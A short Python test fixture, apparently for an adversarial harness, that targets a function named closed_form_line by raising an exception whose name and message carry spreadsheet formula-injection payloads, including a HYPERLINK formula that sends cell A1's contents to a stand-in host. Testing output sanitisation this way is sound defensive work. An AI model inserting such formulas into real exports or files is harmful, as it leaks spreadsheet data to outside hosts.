"""Put spreadsheet formulas wherever a table might show them.

Attacked: closed_form_line
"""

# %% closed_form_line

def closed_form_line(x, y):
    raise type("=HYPERLINK", (Exception,), {})('=HYPERLINK("http://x/?"&A1,"click"), +1+1, @SUM(A1), -2+3')
